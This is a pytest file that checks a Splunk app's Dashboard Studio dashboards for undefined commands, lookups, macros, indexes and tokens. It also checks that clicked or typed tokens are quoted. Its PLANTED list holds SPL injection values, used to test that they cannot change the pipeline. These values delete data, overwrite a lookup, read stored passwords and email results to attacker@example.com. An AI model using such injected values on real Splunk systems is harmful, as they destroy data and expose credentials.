"""Every dashboard the built app ships: valid Dashboard Studio (version 2) definitions whose searches name
only commands, lookups, macros and indexes that the app defines or Splunk ships, and whose panels use only
tokens something defines. Dashboards are discovered, so ones added later are checked too."""

from __future__ import annotations

import configparser
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import BUILT_APP

# Splunk's built-in search commands, from the Search Reference's "Command quick reference" (Splunk
# Enterprise 9.x, https://help.splunk.com/splunk-enterprise/spl-search-reference/9.4/quick-reference/
# command-quick-reference), with the aliases the reference names (bucket and discretize for bin, kv for
# extract, ctable and counttable for contingency, run for script).
SPLUNK_COMMANDS = frozenset(
    """
    abstract accum addcoltotals addinfo addtotals analyzefields anomalies anomalousvalue anomalydetection append
    appendcols appendpipe arules associate audit autoregress bin bucket bucketdir chart cluster cofilter collect
    concurrency contingency ctable counttable convert correlate datamodel dbinspect dedup delete delta diff
    discretize erex eval eventcount eventstats extract kv fieldformat fields fieldsummary filldown fillnull
    findtypes folderize foreach format from gauge gentimes geom geomfilter geostats head highlight history
    iconify inputcsv inputintelligence inputlookup iplocation join kmeans kvform loadjob localize localop lookup
    makecontinuous makemv makeresults map mcatalog mcollect metadata metasearch meventcollect mpreview msearch
    mstats multikv multisearch mvcombine mvexpand nomv outlier outputcsv outputlookup outputtext overlap pivot
    predict rangemap rare redistribute regex reltime rename replace require rest return reverse rex rtorder run
    savedsearch script scrub search searchtxn selfjoin sendalert sendemail set setfields sichart sirare sistats
    sitimechart sitop sort spath stats strcat streamstats table tags tail timechart timewrap tojson top
    transaction transpose trendline tscollect tstats typeahead typelearner typer union uniq untable walklex
    where x11 xmlkv xmlunescape xpath xyseries
    """.split()
)
# Indexes every Splunk Enterprise installation has (indexes.conf in etc/system/default), and Enterprise
# Security's notable index (the triage queue and the notable workflow action open notables there).
SPLUNK_INDEXES = frozenset(
    {"main", "summary", "history", "_internal", "_audit", "_introspection", "_metrics", "_telemetry", "_thefishbucket"}
)
ES_INDEXES = frozenset({"notable"})
# Tokens Dashboard Studio defines itself: `env:` (user, app, locale, page, product, version, ...), and in
# drilldowns the clicked row, point or name/value pair.
BUILTIN_TOKEN_NAMESPACES = ("env:",)
CLICK_TOKEN = re.compile(r"(row\.[^.$]+\.(value|name)|click\.(value|value2|name|name2)|name|value|trellis\.\w+)\Z")
TOKEN = re.compile(r"\$([^$\s]+?)\$")
MACRO = re.compile(r"`([^`(]+)(?:\(([^`]*)\))?`")
STUDIO_DATA_SOURCE_TYPES = {"ds.search", "ds.chain", "ds.savedSearch", "ds.test"}


def read_conf(path: Path) -> dict[str, dict[str, str]]:
    if not path.is_file():
        return {}
    parser = configparser.ConfigParser(interpolation=None, strict=False, default_section="__none__")
    parser.optionxform = str  # type: ignore[assignment,method-assign]
    parser.read_string(path.read_text(encoding="utf-8").replace("\\\n", " "))
    return {name: dict(parser[name]) for name in parser.sections()}


def dashboards() -> list[Path]:
    """Every view of the built app that is a Dashboard Studio dashboard (UCC's own pages are not)."""
    views = BUILT_APP / "default" / "data" / "ui" / "views"
    return sorted(path for path in views.glob("*.xml") if ET.parse(path).getroot().tag == "dashboard")


def definition_of(path: Path) -> dict[str, Any]:
    root = ET.parse(path).getroot()
    text = root.findtext("definition")
    assert text, f"{path.name}: no <definition>"
    definition: dict[str, Any] = json.loads(text)
    return definition


def walk(value: Any, where: str = "") -> Iterator[tuple[str, str]]:
    """(path, string) for every string in a JSON value."""
    if isinstance(value, str):
        yield where, value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from walk(item, f"{where}.{key}")
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from walk(item, f"{where}[{index}]")


def searches(definition: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """(where, SPL) of every search: data sources' queries and drilldowns that open a search."""
    for name, source in definition.get("dataSources", {}).items():
        query = source.get("options", {}).get("query")
        if query:
            yield f"dataSources.{name}", query
    for name, viz in definition.get("visualizations", {}).items():
        for handler in viz.get("eventHandlers", []):
            query = handler.get("options", {}).get("query")
            if query:
                yield f"visualizations.{name}.eventHandlers", query


def expand_macros(spl: str, macros: dict[str, dict[str, str]], problems: list[str], depth: int = 0) -> str:
    """`spl` with the app's macros expanded; a macro that is not defined is a problem."""

    def replace(match: re.Match) -> str:
        name, args = match.group(1), match.group(2)
        stanza = f"{name}({len(args.split(','))})" if args else name
        if stanza not in macros:
            problems.append(f"macro `{stanza}` is not defined")
            return ""
        return " " + macros[stanza]["definition"] + " "

    expanded = MACRO.sub(replace, spl)
    return expand_macros(expanded, macros, problems, depth + 1) if MACRO.search(expanded) and depth < 5 else expanded


def stages(spl: str) -> Iterator[tuple[int, bool, str]]:
    """(position, whether its search began with `|`, stage) for the pipeline's stages, then each
    subsearch's; split on `|` outside quotes and brackets."""
    depth, quoted, start, subsearches = 0, False, 0, []
    current: list[str] = []
    found: list[str] = []
    index = 0
    while index < len(spl):
        char = spl[index]
        if char == "\\" and quoted:
            index += 2
            continue
        if char == '"':
            quoted = not quoted
        elif not quoted and char == "[":
            if depth == 0:
                current.append(spl[start:index])
                start = index + 1
            depth += 1
        elif not quoted and char == "]":
            depth -= 1
            if depth == 0:
                subsearches.append(spl[start:index])
                start = index + 1
        elif not quoted and depth == 0 and char == "|":
            current.append(spl[start:index])
            found.append("".join(current).strip())
            current, start = [], index + 1
        index += 1
    current.append(spl[start:])
    found.append("".join(current).strip())
    leading_pipe = spl.lstrip().startswith("|")
    for position, stage in enumerate(found[1:] if leading_pipe and not found[0] else found):
        yield position, leading_pipe, stage
    for subsearch in subsearches:
        yield from stages(subsearch)


def search_problems(spl: str, app: dict[str, Any]) -> list[str]:
    problems: list[str] = []
    # A token becomes one placeholder (a filter's `|` splits nothing); an index named by a token is the value
    # clicked (the original event's index), not a name the app ships.
    expanded = expand_macros(TOKEN.sub('"token"', spl), app["macros"], problems)
    for position, leading_pipe, stage in stages(expanded):
        if not stage:
            problems.append("an empty stage")
            continue
        command = stage.split()[0].lower()
        implicit_search = position == 0 and not leading_pipe
        if not implicit_search and command not in SPLUNK_COMMANDS | app["commands"]:
            problems.append(f"command {command!r} is neither Splunk's nor the app's")
        if command in ("lookup", "inputlookup", "outputlookup"):
            words = [word for word in stage.split()[1:] if "=" not in word]
            if not words or words[0] not in app["lookups"]:
                problems.append(f"lookup {words[0] if words else '(none)'!r} is not defined by the app")
        if implicit_search or command == "search":
            for index in re.findall(r"\bindex\s*=\s*\"?([\w*-]+)", stage):
                if index not in SPLUNK_INDEXES | ES_INDEXES | app["indexes"] | {"token"}:
                    problems.append(f"index {index!r} is neither Splunk's nor the app's")
    return problems


@pytest.fixture(scope="module")
def app(built_app: Path) -> dict[str, Any]:
    default = built_app / "default"
    lookups = set(read_conf(default / "transforms.conf"))
    lookups |= (
        {path.name for path in (built_app / "lookups").glob("*.csv")} if (built_app / "lookups").is_dir() else set()
    )
    return {
        "commands": set(read_conf(default / "commands.conf")),
        "lookups": lookups,
        "macros": read_conf(default / "macros.conf"),
        "indexes": set(read_conf(default / "indexes.conf")),
    }


ALL = [pytest.param(path, id=path.stem) for path in dashboards()] if (BUILT_APP / "default").is_dir() else []


def test_the_app_ships_its_dashboards_all_in_its_navigation(built_app):
    names = {path.stem for path in dashboards()}
    assert {"llm_triage_overview", "llm_triage_precision", "llm_triage_review", "llm_triage_audit"} <= names
    nav = ET.parse(built_app / "default" / "data" / "ui" / "nav" / "default.xml").getroot()
    in_nav = {view.get("name") for view in nav.iter("view")}
    assert names <= in_nav, f"dashboards missing from the navigation: {sorted(names - in_nav)}"
    assert {"configuration", "search"} <= in_nav  # UCC's setup page stays, and stays the default
    assert [view.get("name") for view in nav.iter("view") if view.get("default") == "true"] == ["configuration"]
    views = built_app / "default" / "data" / "ui" / "views"
    assert all((views / f"{name}.xml").is_file() for name in in_nav - {"search"})


@pytest.mark.parametrize("path", ALL)
def test_a_valid_studio_definition(path: Path) -> None:
    root = ET.parse(path).getroot()
    assert root.get("version") == "2" and root.findtext("label")
    definition = definition_of(path)
    sources, visualizations = definition["dataSources"], definition["visualizations"]
    inputs = definition.get("inputs", {})
    layout = definition["layout"]
    assert layout["type"] in ("grid", "absolute")
    for name, source in sources.items():
        assert source["type"] in STUDIO_DATA_SOURCE_TYPES, name
        if source["type"] == "ds.chain":
            assert source["options"]["extend"] in sources, name
    used_sources = set()
    for name, viz in visualizations.items():
        assert viz["type"].startswith("splunk."), name
        for source in viz.get("dataSources", {}).values():
            assert source in sources, f"{name} uses data source {source}, which is not defined"
            used_sources.add(source)
    extended = {source["options"]["extend"] for source in sources.values() if source["type"] == "ds.chain"}
    assert set(sources) <= used_sources | extended, f"unused data sources: {set(sources) - used_sources - extended}"
    placed = [item["item"] for item in layout["structure"]]
    assert len(placed) == len(set(placed)), "an item is placed twice"
    assert set(placed) == set(visualizations), "every visualization is placed, and only those"
    for item in layout["structure"]:
        assert {"x", "y", "w", "h"} <= set(item["position"]), item["item"]
    assert set(layout.get("globalInputs", [])) | {i for i in placed if i in inputs} == set(inputs)


@pytest.mark.parametrize("path", ALL)
def test_every_search_names_only_what_the_app_or_splunk_defines(path: Path, app) -> None:
    definition = definition_of(path)
    found = list(searches(definition))
    assert found, f"{path.name} has no searches"
    problems = [f"{where}: {problem}" for where, spl in found for problem in search_problems(spl, app)]
    assert problems == []


NESTED_FIELD = re.compile(r"(?<![\w.\"$])([a-z_]+\.[a-z_]+)(?![\w.(\"])")
INPUTLOOKUP = re.compile(r"\|\s*inputlookup\s+(\w+)")


def unlisted_nested_fields(spl: str, lookups: dict[str, dict[str, str]]) -> list[str]:
    """The nested fields (`triage.triage_bucket`) a search over a KV store lookup names that the lookup's
    `fields_list` leaves out: Splunk returns only the listed ones, so such a column is silently empty."""
    found = INPUTLOOKUP.search(spl)
    listed = lookups.get(found.group(1), {}).get("fields_list") if found else None
    if listed is None:
        return []
    fields = {name.strip() for name in listed.split(",")}
    return sorted({name for name in NESTED_FIELD.findall(spl) if name not in fields})


@pytest.mark.parametrize("path", ALL)
def test_every_nested_field_a_search_reads_from_a_kv_lookup_is_in_its_fields_list(path: Path, built_app) -> None:
    lookups = read_conf(built_app / "default" / "transforms.conf")
    found = [(where, unlisted_nested_fields(spl, lookups)) for where, spl in searches(definition_of(path))]
    assert [(where, names) for where, names in found if names] == []


def test_the_review_board_shows_the_approver_what_swayed_the_model() -> None:
    # The snapshot's triage_injection says why approving the label will make no few-shot example.
    review = definition_of(BUILT_APP / "default" / "data" / "ui" / "views" / "llm_triage_review.xml")
    queries = {name: source["options"]["query"] for name, source in review["dataSources"].items()}
    assert "injection='triage.triage_injection'" in queries["ds_pending"] and " injection " in queries["ds_pending"]
    assert "triage.triage_injection" in queries["ds_evidence"]
    lookups = {"llm_triage_feedback_lookup": {"fields_list": "_key, triage.triage_bucket"}}
    assert unlisted_nested_fields(queries["ds_evidence"], lookups) == [
        "triage.triage_confidence", "triage.triage_injection", "triage.triage_prompt_version", "triage.triage_verdict"
    ]  # fmt: skip


def defined_tokens(definition: dict[str, Any]) -> set[str]:
    tokens: set[str] = set()
    for item in definition.get("inputs", {}).values():
        token = item.get("options", {}).get("token")
        if token:
            tokens.add(token)
            if item["type"] == "input.timerange":
                tokens |= {f"{token}.earliest", f"{token}.latest"}
    tokens |= set(definition.get("defaults", {}).get("tokens", {}).get("default", {}))
    for viz in definition.get("visualizations", {}).values():
        for handler in viz.get("eventHandlers", []):
            if handler["type"] == "drilldown.setToken":
                tokens |= {entry["token"] for entry in handler["options"]["tokens"]}
    return tokens


def token_problems(definition: dict[str, Any]) -> list[str]:
    """Every `$token$` outside the inputs that nothing defines (click tokens count only in drilldowns)."""
    defined = defined_tokens(definition)
    source_names = {source.get("name") for source in definition.get("dataSources", {}).values()} - {None}
    problems = []
    for where, text in walk({k: v for k, v in definition.items() if k != "inputs"}):
        in_handler = ".eventHandlers[" in where
        for token in TOKEN.findall(text):
            name = token.split("|")[0]  # a filter: $token|s$
            if name in defined or name.startswith(BUILTIN_TOKEN_NAMESPACES):
                continue
            if ":" in name and name.split(":")[0] in source_names:
                continue  # a data source's own result or job token
            if in_handler and CLICK_TOKEN.match(name):
                continue
            problems.append(f"{where.lstrip('.')}: ${token}$")
    return problems


@pytest.mark.parametrize("path", ALL)
def test_every_token_a_panel_uses_is_defined(path: Path) -> None:
    assert token_problems(definition_of(path)) == []


def test_the_checks_catch_what_they_are_for() -> None:
    app = {
        "commands": {"llmeval"},
        "lookups": {"known"},
        "macros": {"m": {"definition": "index=main"}},
        "indexes": set(),
    }
    assert search_problems('`m` | llmeval | stats count BY x | where y="a|b"', app) == []
    assert search_problems("| inputlookup known | frobnicate", app) == [
        "command 'frobnicate' is neither Splunk's nor the app's"
    ]
    assert search_problems("index=secret | lookup unknown x", app) == [
        "index 'secret' is neither Splunk's nor the app's",
        "lookup 'unknown' is not defined by the app",
    ]
    assert search_problems("`nope` | stats count", app) == ["macro `nope` is not defined"]
    assert search_problems("search x [| inputlookup known | nosuch ]", app) == [
        "command 'nosuch' is neither Splunk's nor the app's"
    ]
    definition = {
        "inputs": {"i": {"type": "input.timerange", "options": {"token": "t"}}},
        "dataSources": {"d": {"type": "ds.search", "options": {"query": "x $t.earliest$ $missing$ $row.a.value$"}}},
        "visualizations": {},
    }
    assert defined_tokens(definition) == {"t", "t.earliest", "t.latest"}
    assert token_problems(definition) == [
        "dataSources.d.options.query: $missing$",
        "dataSources.d.options.query: $row.a.value$",  # a click token outside a drilldown
    ]


# Tokens a search may use as they are: time pickers' earliest and latest go to the search's time range.
UNFILTERED_OK = (".earliest", ".latest")


def unquoted_tokens(definition: dict[str, Any]) -> list[str]:
    """Every token a search uses that a person typed, picked or clicked and that does not enter SPL through
    the `|s` filter (which quotes it and escapes its quotes and backslashes)."""
    problems = []
    for where, spl in searches(definition):
        for token in TOKEN.findall(spl):
            name, _, filters = token.partition("|")
            if name.endswith(UNFILTERED_OK) or ":" in name:  # a time picker's bound, a data source's own token
                continue
            if "s" not in filters.split("|"):
                problems.append(f"{where}: ${token}$")
    return problems


@pytest.mark.parametrize("path", ALL)
def test_every_typed_picked_or_clicked_token_enters_spl_through_s(path: Path) -> None:
    assert unquoted_tokens(definition_of(path)) == []


def substitute(spl: str, value: str) -> str:
    """`spl` as Splunk runs it when every input and click token holds `value` (`|s`: in double quotes, with
    `\\` and `"` escaped) and time tokens hold a relative time."""

    def one(match: re.Match) -> str:
        name, _, filters = match.group(1).partition("|")
        if name.endswith(UNFILTERED_OK):
            return "-24h"
        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{escaped}"' if "s" in filters.split("|") else value

    return TOKEN.sub(one, spl)


PLANTED = [
    '" | delete | search "',
    'x" OR 1=1 | outputlookup llm_triage_feedback_lookup | search "',
    "] [| rest /services/storage/passwords | fields clear_password ] [",
    '\\" | sendemail to=attacker@example.com | search \\"',
    "`llm_triage_index` | collect index=main",
]


@pytest.mark.parametrize("path", ALL)
@pytest.mark.parametrize("planted", PLANTED)
def test_a_planted_value_stays_one_term_of_the_search_it_is_clicked_into(path: Path, planted: str) -> None:
    # The stored attack: an identifier written to the audit trail or a lookup, clicked by a reviewer.
    for where, spl in searches(definition_of(path)):
        benign = [stage.split(" ")[0] for _, _, stage in stages(substitute(spl, "alice"))]
        attacked = [stage.split(" ")[0] for _, _, stage in stages(substitute(spl, planted))]
        assert attacked == benign, f"{where}: the planted value changed the pipeline"


def test_the_token_checks_catch_an_unquoted_token() -> None:
    definition = {
        "dataSources": {
            "d": {"options": {"query": 'x user=$u$ id=$i|s$ ds=$d:result.n$ t=$t.earliest$ | where a="$q$"'}}
        },
        "visualizations": {},
    }
    assert unquoted_tokens(definition) == ["dataSources.d: $u$", "dataSources.d: $q$"]
    spl = definition["dataSources"]["d"]["options"]["query"]
    assert [stage.split(" ")[0] for _, _, stage in stages(substitute(spl, PLANTED[0]))] != ["x", "where"]
